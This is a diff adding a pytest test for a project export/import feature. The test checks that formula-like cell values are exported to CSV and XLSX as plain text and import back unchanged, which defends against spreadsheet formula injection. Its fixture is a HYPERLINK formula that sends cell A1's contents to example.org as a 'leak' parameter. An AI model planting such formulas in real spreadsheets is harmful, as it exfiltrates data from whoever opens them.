@@ -171,3 +171,27 @@ def test_the_public_export_of_a_region_imports_back_into_it(client, region, othe
     assert codes == {"2014-2020.2.04.21-0013", "HOP-1"}
     result = project_import(region=region, file=response.content, file_name="r.csv", dry_run=True, user=None)
     assert not result.has_errors and result.unchanged_count == 2
+
+
+FORMULA = '=HYPERLINK("http://example.org/?leak="&A1;"Klõpsa")'
+
+
+@pytest.mark.parametrize(("fmt", "name"), [("csv", "export.csv"), ("xlsx", "export.xlsx")])
+def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back_unchanged(region, fmt, name):
+    ProjectFactory(region=region, code="F-1", goal=FORMULA, results="-5 päeva ooteaega, @kõik partnerid")
+
+    response = export_response(Project.objects.all(), fmt)
+
+    if fmt == "csv":
+        [row] = _csv_rows(response)
+        goal, results = row["Goal"], row["Results"]
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+        goal_cell = sheet.cell(row=2, column=COLUMNS.index("Goal") + 1)
+        assert goal_cell.data_type == "s"  # a string, not a formula
+        goal, results = goal_cell.value, sheet.cell(row=2, column=COLUMNS.index("Results") + 1).value
+    assert goal == "'" + FORMULA
+    assert results == "'-5 päeva ooteaega, @kõik partnerid"
+    result = project_import(region=region, file=response.content, file_name=name, dry_run=False, user=UserFactory())
+    assert [row.action for row in result.rows] == ["unchanged"]
+    assert Project.objects.get(code="F-1").goal == FORMULA
